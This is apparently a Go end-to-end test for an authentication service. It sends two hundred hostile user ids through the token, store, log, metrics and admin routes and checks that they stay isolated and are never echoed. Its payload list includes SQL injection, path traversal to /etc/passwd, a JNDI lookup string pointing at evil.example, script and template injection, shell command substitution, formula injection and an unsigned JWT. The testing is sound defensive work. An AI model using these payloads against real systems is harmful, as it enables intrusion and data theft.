package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/acs-solutions/acsauth"
	"github.com/acs-solutions/acsauth/internal/attack"
	"github.com/acs-solutions/acsauth/internal/store/sqlite"
)

// hostileIDs are two hundred ids of users that mean something in SQL, OData, URLs, paths, templates, logs, metrics, JSON or
// a shell. All of them are subjects that an OpenID Connect issuer may give.
func hostileIDs() (list []string) {
	cores := []string{
		"'", "''", "\"", "';--", "'OR'1'='1", "1;DROP/**/TABLE/**/mapping;--", "'||(SELECT(1))||'", "\\'", "$1", "?1", ":now", "@p", "%", "_", "*", "%%%", "x'/**/UNION/**/SELECT/**/*--",
		"'eq'", "RowKey%20eq%20'm'", "$filter=true", "(PartitionKey)", "../../etc/passwd", "..%2f..%2f", "/", "//", "\\", "?a=b", "#f", "&a=b", ";a=b", "%00", "%0d%0aX:y", "%2500", "a%2Fb", ":", "@evil.example", "http://evil.example/",
		"${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "<!--", "&lt;", "`id`", "$(id)", "|id", ";id;", ">/tmp/x", "=1+1", "+cmd|'/C'!A0", "-1", "0", "null", "undefined", "NaN", "true", "[]", "{}", "[objectObject]", "__proto__", "constructor",
		"\"}", "\",\"admin\":true,\"a\":\"", "level=ERROR", "msg=\"forged\"", "acsauth_x{a=\"b\"}1", "\"}\\n", "\\u0000", "\\r\\n", "~root", "a.b.c", "eyJhbGciOiJub25lIn0.e30.",
	}
	for _, c := range cores {
		list = append(list, c, "alice"+c, c+strings.Repeat("a", 256-len(c)))
	}
	return list[:200]
}

// K-02: two hundred hostile ids go through token, key, store, ACS, log, metrics and the administration routes. Each is a
// user of its own, whom every route finds again; nobody else's row changes; the log, the metrics and the answers name none of them.
func TestHostileIDs(t *testing.T) {
	var db string
	s := startTargetWith(t, func(s *target, env map[string]string) {
		s.authority.PublishOthers(s.world)
		env["ACSAUTH_ISSUERS"] = issuersFile(t, s.world)
		db = strings.TrimPrefix(env["ACSAUTH_STORE"], "sqlite:")
	})
	partner := s.world.Others()[3]
	control := s.identity(t, s.good(s.getUser()))
	series := s.series(t)
	ids := hostileIDs()
	owner := map[string]string{}
	w := &wire{addr: s.addr}
	defer w.close()
	admin := func(path, body string) answer {
		r := s.at("POST", path)
		a, err := w.send(s.message(r, s.good(r)).sending(body).String())
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	for n, id := range ids {
		token := attack.Mint(partner.Token(), attack.Set("sub", id))
		identity := s.identity(t, token)
		if other, taken := owner[identity]; taken || identity == "" || identity == control {
			t.Errorf("%q has the identity of %q: %q", id, other, identity)
		}
		owner[identity] = id
		if again := s.identity(t, token); again != identity {
			t.Errorf("%q has two identities", id)
		}
		found := admin("/api/admin/lookup", `{"user":{"issuer":`+quote(partner.Issuer)+`,"subject":`+quote(id)+`}}`)
		if found.status != http.StatusOK || !strings.Contains(string(found.body), identity) {
			t.Errorf("%q is not found: %s", id, found)
		}
		if n%4 == 0 {
			s.expect(t, id, "", s.message(s.getToken(), token))
		}
	}
	for _, bad := range []string{"", " ", "a b", "a\nb", "\x00", "é", "\u2028", strings.Repeat("a", 257), "\u202e", "a\tb"} {
		s.as(t, fmt.Sprintf("%q", bad), "token_subject", attack.Mint(partner.Token(), attack.Set("sub", bad)))
	}
	if s.identity(t, s.good(s.getUser())) != control {
		t.Error("the control user has another identity")
	}
	if grown := s.series(t); !equalSeries(grown, series) {
		t.Errorf("the metrics have %d series, before there were %d", len(grown), len(series))
	}
	s.health(t)
	s.kill()
	s.checkHostile(t, ids, db, owner)
	t.Logf("%d ids, %d identities", len(ids), len(owner))
}

func quote(s string) string {
	b, _ := json.Marshal(s) // text always works
	return string(b)
}

// checkHostile looks at the log and at the store, once the process has ended.
func (s *target) checkHostile(t *testing.T, ids []string, db string, owner map[string]string) {
	t.Helper()
	log := s.log.String()
	for _, id := range ids {
		if len(id) > 8 && strings.Contains(log, id) {
			t.Errorf("the log names %q", id)
		}
	}
	if strings.Contains(log, `"forged"`) || strings.Contains(log, "evil.example") {
		t.Error("the log has something out of an id")
	}
	store, err := sqlite.Open(t.Context(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { mustStop(t, store.Close()) }()
	c, err := readAll(t.Context(), store)
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range c.Rows {
		if id, ok := owner[string(row.Identity)]; ok {
			seen++
			if row.Key.Subject != id || row.State != acsauth.Active {
				t.Errorf("the row of %q has the subject %q", id, row.Key.Subject)
			}
		}
	}
	if seen != len(owner) || len(c.Rows) != len(owner)+2 { // and the control user, and Bob
		t.Errorf("%d rows, %d of them of hostile ids, want %d", len(c.Rows), seen, len(owner))
	}
}

var seriesForm = regexp.MustCompile(`(?m)^(acsauth_[^ ]+) `)

// series are the names and labels of the service's own metrics. Classes of answers that were not given before may come.
func (s *target) series(t *testing.T) map[string]bool {
	t.Helper()
	list := map[string]bool{}
	for _, m := range seriesForm.FindAllStringSubmatch(scrape(t, s.process), -1) {
		list[m[1]] = true
	}
	if len(list) < 20 {
		t.Fatalf("only %d series", len(list))
	}
	return list
}

var newAnswers = regexp.MustCompile(`/api/admin/lookup|/getToken|/getUser|code=|operation=|op=|event=|verb=|kind=`)

// equalSeries compares series, but for those of routes and codes that were not used before.
func equalSeries(now, before map[string]bool) bool {
	for name := range now {
		if !before[name] && !newAnswers.MatchString(name) {
			return false
		}
	}
	for name := range now {
		if strings.ContainsAny(name, "'<>$`|\\") || strings.Contains(name, "alice") || strings.Contains(name, "evil") {
			return false
		}
	}
	return true
}
